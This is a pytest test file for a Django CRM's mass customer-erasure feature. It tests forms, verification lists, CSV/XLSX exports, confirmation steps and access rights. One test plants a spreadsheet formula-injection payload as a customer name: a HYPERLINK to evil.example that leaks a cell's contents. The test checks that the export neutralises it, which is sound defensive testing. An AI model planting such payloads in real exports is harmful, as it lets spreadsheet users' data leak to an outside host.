"""The mass-erasure pages (SPEC M-1..M-6): criteria form, verification with both lists, the double
confirmation, progress and result, rights and the CRM setting."""

import io
from datetime import date, timedelta

import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from kund.core.spreadsheet import XLSX_CONTENT_TYPE
from kund.customers.models import Customer
from kund.customers.templatetags.kund import customer_link
from kund.privacy import mass
from kund.privacy.models import ErasureJob
from kund.privacy.tests.massdata import enable_crm, mass_eraser, order, private, read_list, user_with

pytestmark = pytest.mark.django_db
INDEX = reverse("mass_erasure:index")


@pytest.fixture
def three(db):
    never = private("Astrid", "Berg", created=date(2015, 1, 1))
    buyer = private("Gunnar", "Holm", created=date(2015, 2, 1))
    order(buyer, date(2016, 2, 1))
    blocked = private("Sofia", "Lund", created=date(2015, 3, 1))
    blocking = order(blocked, date(2016, 3, 1), delivered=False)
    return never, buyer, blocked, blocking


@pytest.fixture
def eraser_client(client):
    enable_crm()
    client.force_login(mass_eraser())
    return client


def plan(client, through="2020-12-31", criteria="both"):
    response = client.post(INDEX, {"criteria": criteria, "through": through})
    assert response.status_code == 302, response.content.decode()[:2000]
    return ErasureJob.objects.latest("pk"), response


def link_to(customer) -> str:
    """The customer's name linked to its card, as every page links a customer (kund's customer_link)."""
    return str(customer_link(Customer.objects.get(pk=customer.pk)))


def test_m6_anonymous_is_sent_to_sign_in(client):
    response = client.get(INDEX)
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


def test_m6_without_the_right_the_page_is_forbidden(client):
    enable_crm()
    client.force_login(user_with("kalle", "view_customer", "erase_customer"))
    assert client.get(INDEX).status_code == 403
    assert client.post(INDEX, {"criteria": "both", "through": "2020-12-31"}).status_code == 403


def test_m6_without_the_crm_module_the_page_says_so(client, three):
    # given the right, and the CRM module switched off
    enable_crm(False)
    client.force_login(mass_eraser())

    # when / then
    response = client.get(INDEX)
    assert response.status_code == 403
    assert b"mass-unavailable" in response.content
    assert client.post(INDEX, {"criteria": "both", "through": "2020-12-31"}).status_code == 403
    assert not ErasureJob.objects.exists()


def test_m6_an_administrator_sees_the_page(client):
    enable_crm()
    client.force_login(get_user_model().objects.create_superuser("admin", "a@kund.test", "pw"))
    assert client.get(INDEX).status_code == 200


@pytest.mark.parametrize(
    ("data", "field"),
    [
        ({"criteria": "both", "through": "2020-13-45"}, "through"),
        ({"criteria": "both", "through": ""}, "through"),
        ({"criteria": "everyone", "through": "2020-12-31"}, "criteria"),
        ({"criteria": "both", "through": "9999-12-31"}, "through"),  # the day after does not exist
        ({"criteria": "both", "through": "0001-01-01"}, "through"),
        ({"criteria": "both", "through": "1899-12-31"}, "through"),
        ({"criteria": "both", "through": "3000-01-01"}, "through"),
    ],
)
def test_bad_input_is_shown_beside_the_field(eraser_client, data, field):
    response = eraser_client.post(INDEX, data)
    assert response.status_code == 200
    assert f'data-field-error="{field}"'.encode() in response.content
    assert not ErasureJob.objects.exists()


def test_m1_older_than_n_years_is_the_date_today_minus_n_years_shown_to_the_user(eraser_client, three):
    # given the form, which says what "older than" counts back from
    today = timezone.localdate()
    form = eraser_client.get(INDEX).content.decode()
    assert 'name="years"' in form and today.isoformat() in form

    # when customers older than 3 years are asked for, without a date
    response = eraser_client.post(INDEX, {"criteria": "both", "years": "3"})

    # then the run is planned through today three years ago, and the user is told which day that is
    job = ErasureJob.objects.get()
    assert response.status_code == 302
    through = mass.years_before(today, 3)
    assert job.through == through
    page = eraser_client.get(response["Location"]).content.decode()
    assert f"Older than 3 years: customers through {through.isoformat()}." in page
    assert through.isoformat() in page.split('id="job-summary"')[1].split("</p>")[0]
    assert 'id="count-selected">3<' in page


@pytest.mark.parametrize(
    ("data", "message"),
    [
        ({"through": "2020-12-31", "years": "3"}, "Give either a date or a number of years, not both."),
        ({"through": "", "years": ""}, "Give a date or a number of years."),
    ],
)
def test_m1_the_date_or_the_years_one_of_them_said_beside_both(eraser_client, three, data, message):
    # when both or neither are given
    response = eraser_client.post(INDEX, {"criteria": "both", **data})

    # then the message stands beside each of the two fields, and nothing is planned
    html = response.content.decode()
    assert response.status_code == 200
    for field in ("through", "years"):
        assert f'data-field-error="{field}">{message}<' in html
    assert not ErasureJob.objects.exists()


@pytest.mark.parametrize("years", ["0", "101", "-3", "tre", "1.5", "9" * 40])
def test_m1_years_outside_1_to_100_are_refused_beside_the_field(eraser_client, three, years):
    response = eraser_client.post(INDEX, {"criteria": "both", "years": years})
    assert response.status_code == 200
    assert b'data-field-error="years"' in response.content
    assert b'data-field-error="through"' not in response.content
    assert not ErasureJob.objects.exists()


@pytest.mark.parametrize(
    ("today", "years", "through"),
    [
        (date(2025, 11, 25), 3, date(2022, 11, 25)),
        (date(2024, 2, 29), 1, date(2023, 2, 28)),
        (date(2024, 2, 29), 4, date(2020, 2, 29)),
    ],
)
def test_m1_years_before_counts_back_whole_years(today, years, through):
    assert mass.years_before(today, years) == through


def test_m1_nothing_selected_is_said_on_the_form(eraser_client, three):
    response = eraser_client.post(INDEX, {"criteria": "both", "through": "2001-01-01"})
    assert response.status_code == 200
    assert b"mass-form-errors" in response.content
    assert not ErasureJob.objects.exists()


def test_m4_verification_shows_the_counts_the_ignored_reasons_and_both_lists(eraser_client, three):
    never, buyer, blocked, blocking = three

    # when
    job, response = plan(eraser_client)
    page = eraser_client.get(response["Location"])

    # then the totals and each ignored customer with its reason
    html = page.content.decode()
    assert 'id="count-selected">3<' in html
    assert 'id="count-delete">1<' in html
    assert 'id="count-anonymize">1<' in html
    assert 'id="count-ignored">1<' in html
    assert f'data-customer="{blocked.number}"' in html and f"order {blocking.ref} is not delivered" in html
    assert "mass-recent-warning" not in html

    # and both lists as CSV
    to_erase = eraser_client.get(reverse("mass_erasure:list", args=[job.pk, "to-erase"]))
    assert to_erase["Content-Type"].startswith("text/csv")
    rows = list(read_list(to_erase))
    assert [(r["customer_number"], r["action"]) for r in rows] == [
        (never.number, "delete"),
        (buyer.number, "anonymize"),
    ]
    ignored = eraser_client.get(reverse("mass_erasure:list", args=[job.pk, "ignored"]))
    rows = list(read_list(ignored))
    assert [r["customer_number"] for r in rows] == [blocked.number]
    assert Customer.objects.count() == 3


def test_m4_m5_the_ignored_list_names_and_links_the_customers_the_user_may_view(
    client, three, django_capture_on_commit_callbacks
):
    # given two blocked customers, and a user with the mass right who may view only the one assigned to them
    never, buyer, blocked, blocking = three
    other = private("Elsa", "Wallin", created=date(2015, 4, 1))
    order(other, date(2016, 4, 1), delivered=False)
    enable_crm()
    user = user_with("mira", "mass_erase_customers", "view_assigned_customer")
    Customer.objects.filter(pk=blocked.pk).update(responsible=user)
    client.force_login(user)
    job, response = plan(client)

    # when the verification is shown
    page = client.get(response["Location"]).content.decode()

    # then the one they may view is named and linked to its card, the other shown by number only
    rows = {row.split('"', 1)[0]: row for row in page.split('data-customer="')[1:]}
    assert link_to(blocked) in rows[blocked.number]
    assert "Elsa" not in page and "href" not in rows[other.number].split("</tr>")[0]

    # and so does the result page, after the run
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("mass_erasure:start", args=[job.pk]), {"understood": "on", "confirmed": "yes"})
    result = client.get(response["Location"]).content.decode()
    assert 'id="job-done"' in result
    assert link_to(blocked) in result
    assert f'data-customer="{other.number}"' in result and "Elsa" not in result


def test_m4_the_lists_name_only_the_customers_the_user_may_view(client, three):
    # given a user with the mass right who may view only the customers assigned to them: one of three
    never, buyer, blocked, _blocking = three
    enable_crm()
    user = user_with("mira", "mass_erase_customers", "view_assigned_customer")
    Customer.objects.filter(pk=buyer.pk).update(responsible=user)
    client.force_login(user)
    job, _response = plan(client)

    # when
    to_erase = client.get(reverse("mass_erasure:list", args=[job.pk, "to-erase"]))
    ignored = client.get(reverse("mass_erasure:list", args=[job.pk, "ignored"]))

    # then every customer is listed by number, and only the assigned one by name
    rows = list(read_list(to_erase))
    assert [(r["customer_number"], r["name"]) for r in rows] == [
        (never.number, ""),
        (buyer.number, "Gunnar Holm"),
    ]
    rows = list(read_list(ignored))
    assert [(r["customer_number"], r["name"]) for r in rows] == [(blocked.number, "")]
    assert b"Astrid" not in to_erase.content and b"Sofia" not in ignored.content
    for response in (to_erase, ignored):
        assert response["Content-Disposition"].startswith("attachment;")
        assert "no-store" in response["Cache-Control"]


def test_m4_both_lists_neutralise_cells_a_spreadsheet_would_run(eraser_client, three):
    # given customers whose names a spreadsheet would take for formulas
    never, buyer, blocked, _blocking = three
    Customer.objects.filter(pk=never.pk).update(name='=HYPERLINK("http://evil.example/?leak="&A1,"click")')
    Customer.objects.filter(pk=buyer.pk).update(name="+46 70 123 45 67")
    Customer.objects.filter(pk=blocked.pk).update(name="@SUM(1+1)")
    job, _response = plan(eraser_client)

    # when
    to_erase = eraser_client.get(reverse("mass_erasure:list", args=[job.pk, "to-erase"]))
    ignored = eraser_client.get(reverse("mass_erasure:list", args=[job.pk, "ignored"]))

    # then each such cell starts with an apostrophe, which a spreadsheet shows as text
    names = [r["name"] for r in read_list(to_erase)]
    assert names == ['\'=HYPERLINK("http://evil.example/?leak="&A1,"click")', "'+46 70 123 45 67"]
    assert [r["name"] for r in read_list(ignored)] == ["'@SUM(1+1)"]


@pytest.mark.parametrize(("language", "delimiter"), [("sv", ";"), ("de", ";"), ("en", ",")])
def test_m4_the_lists_are_written_as_the_customer_list_export_writes_them(
    eraser_client, three, language, delimiter
):
    # given a run verified, and a reader whose spreadsheet separates a list by ";" or ","
    never, buyer, blocked, blocking = three
    Customer.objects.filter(pk=buyer.pk).update(name="Gunnar Holm; Öberg")
    job, _response = plan(eraser_client)
    eraser_client.cookies["django_language"] = language

    # when the lists are downloaded as CSV
    to_erase = eraser_client.get(reverse("mass_erasure:list", args=[job.pk, "to-erase"]))
    ignored = eraser_client.get(reverse("mass_erasure:list", args=[job.pk, "ignored"]))

    # then UTF-8 with a byte-order mark, in the reader's separator, å/ä/ö intact, as the export writes
    assert to_erase["Content-Type"] == "text/csv; charset=utf-8"
    assert to_erase.content.decode("utf-8-sig").splitlines()[0] == delimiter.join(mass.ERASE_COLUMNS)
    rows = read_list(to_erase, delimiter)
    assert [(r["customer_number"], r["name"]) for r in rows] == [
        (never.number, "Astrid Berg"),
        (buyer.number, "Gunnar Holm; Öberg"),
    ]
    assert [r["customer_number"] for r in read_list(ignored, delimiter)] == [blocked.number]


def test_m4_the_lists_as_xlsx(client, three):
    # given a reader who may view only one of the customers
    never, buyer, blocked, blocking = three
    enable_crm()
    user = user_with("mira", "mass_erase_customers", "view_assigned_customer")
    Customer.objects.filter(pk=buyer.pk).update(responsible=user)
    client.force_login(user)
    job, response = plan(client)

    # when the verification offers the lists as XLSX as well, and they are downloaded
    page = client.get(response["Location"]).content.decode()
    to_erase_url = reverse("mass_erasure:list_xlsx", args=[job.pk, "to-erase"])
    ignored_url = reverse("mass_erasure:list_xlsx", args=[job.pk, "ignored"])
    assert f'href="{to_erase_url}"' in page and f'href="{ignored_url}"' in page
    to_erase = client.get(to_erase_url)
    ignored = client.get(ignored_url)

    # then workbooks with the same columns and cells as the CSV lists, names only where the reader may see
    for response in (to_erase, ignored):
        assert response["Content-Type"] == XLSX_CONTENT_TYPE
        assert response["Content-Disposition"].startswith("attachment;")
        assert "no-store" in response["Cache-Control"]
    rows = list(load_workbook(io.BytesIO(to_erase.content)).active.values)
    assert rows[0] == tuple(mass.ERASE_COLUMNS)
    assert [(r[0], r[1], r[4]) for r in rows[1:]] == [
        (never.number, None, "delete"),
        (buyer.number, "Gunnar Holm", "anonymize"),
    ]
    rows = list(load_workbook(io.BytesIO(ignored.content)).active.values)
    assert rows[0] == tuple(mass.IGNORED_COLUMNS)
    assert [r[0] for r in rows[1:]] == [blocked.number] and f"{blocking.ref} is not delivered" in rows[1][3]


def test_m3_the_page_warns_when_the_date_lies_within_the_last_year(eraser_client, three):
    recent = (timezone.localdate() - timedelta(days=30)).isoformat()
    job, response = plan(eraser_client, through=recent)
    assert b"mass-recent-warning" in eraser_client.get(response["Location"]).content


def test_m5_starting_asks_twice(eraser_client, three, django_capture_on_commit_callbacks):
    never, buyer, blocked, _blocking = three
    job, _response = plan(eraser_client)
    start = reverse("mass_erasure:start", args=[job.pk])

    # when the box is not ticked: an error beside it, nothing started
    response = eraser_client.post(start, {})
    assert response.status_code == 200 and b'data-field-error="understood"' in response.content
    job.refresh_from_db()
    assert job.state == "planned"

    # when ticked: the second question, still nothing started
    response = eraser_client.post(start, {"understood": "on"})
    assert response.status_code == 200 and b"confirm-erasure" in response.content
    job.refresh_from_db()
    assert job.state == "planned"

    # when confirmed the second time: the run starts (the test settings run it at once after commit)
    with django_capture_on_commit_callbacks(execute=True):
        response = eraser_client.post(start, {"understood": "on", "confirmed": "yes"})
    assert response.status_code == 302
    job.refresh_from_db()
    assert job.state == "done"
    assert (job.deleted, job.anonymized, job.ignored, job.failed) == (1, 1, 1, 0)
    assert not Customer.objects.filter(pk=never.pk).exists()

    # then the result page, and the earlier-runs list with who ran it
    result = eraser_client.get(response["Location"]).content.decode()
    assert 'id="count-deleted">1<' in result and 'id="count-anonymized">1<' in result
    assert 'id="count-ignored">1<' in result and 'id="count-failed">0<' in result
    assert f'data-customer="{blocked.number}"' in result
    runs = eraser_client.get(INDEX).content.decode()
    assert "malin" in runs and f"#{job.pk}" in runs


def test_m5_a_started_run_is_not_started_again(eraser_client, three):
    job, _response = plan(eraser_client)
    ErasureJob.objects.filter(pk=job.pk).update(state="queued")
    response = eraser_client.post(
        reverse("mass_erasure:start", args=[job.pk]), {"understood": "on", "confirmed": "yes"}
    )
    assert response.status_code == 302
    assert Customer.objects.count() == 3


def test_m5_progress_is_polled_and_sends_htmx_to_the_result(eraser_client, three):
    job, _response = plan(eraser_client)
    progress = reverse("mass_erasure:progress", args=[job.pk])

    # given a running job half done
    ErasureJob.objects.filter(pk=job.pk).update(state="running", processed=1, heartbeat_at=timezone.now())
    response = eraser_client.get(progress, headers={"HX-Request": "true"})
    assert response.status_code == 200
    assert b'id="job-progress-bar" style="width: 33%"' in response.content
    assert b'hx-trigger="every 1s"' in response.content
    assert b"job-stale" not in response.content

    # when it is finished
    ErasureJob.objects.filter(pk=job.pk).update(state="done", processed=3)
    response = eraser_client.get(progress, headers={"HX-Request": "true"})
    assert response["HX-Redirect"] == reverse("mass_erasure:job", args=[job.pk])


def test_a_stale_run_offers_resume(eraser_client, three, django_capture_on_commit_callbacks):
    # given a run whose worker has been silent for an hour
    job, _response = plan(eraser_client)
    an_hour_ago = timezone.now() - timedelta(hours=1)
    ErasureJob.objects.filter(pk=job.pk).update(
        state="running", started_at=an_hour_ago, heartbeat_at=an_hour_ago
    )
    page = eraser_client.get(reverse("mass_erasure:job", args=[job.pk]))
    assert b"job-resume" in page.content

    # when resumed
    with django_capture_on_commit_callbacks(execute=True):
        eraser_client.post(reverse("mass_erasure:resume", args=[job.pk]))

    # then it runs to the end
    job.refresh_from_db()
    assert job.state == "done" and job.processed == 3


def test_a_mass_run_is_hidden_from_users_without_the_right(client, eraser_client, three):
    job, _response = plan(eraser_client)
    client.force_login(user_with("kalle", "view_customer"))
    assert client.get(reverse("mass_erasure:job", args=[job.pk])).status_code == 403
    assert client.get(reverse("mass_erasure:list", args=[job.pk, "to-erase"])).status_code == 403


def test_pages_take_a_fixed_number_of_queries(eraser_client, three, django_assert_max_num_queries):
    job, _response = plan(eraser_client)
    with django_assert_max_num_queries(15):
        eraser_client.get(reverse("mass_erasure:job", args=[job.pk]))
    with django_assert_max_num_queries(15):
        eraser_client.get(INDEX)


@pytest.mark.parametrize(("crm", "shown"), [(True, True), (False, False)])
def test_m6_navbar_entry_needs_the_right_and_the_crm_module(client, crm, shown):
    enable_crm(crm)
    client.force_login(mass_eraser())
    assert (b'id="nav-mass-erasure"' in client.get(reverse("home")).content) is shown
    client.force_login(user_with("kalle", "view_customer"))
    enable_crm(True)
    assert b'id="nav-mass-erasure"' not in client.get(reverse("home")).content
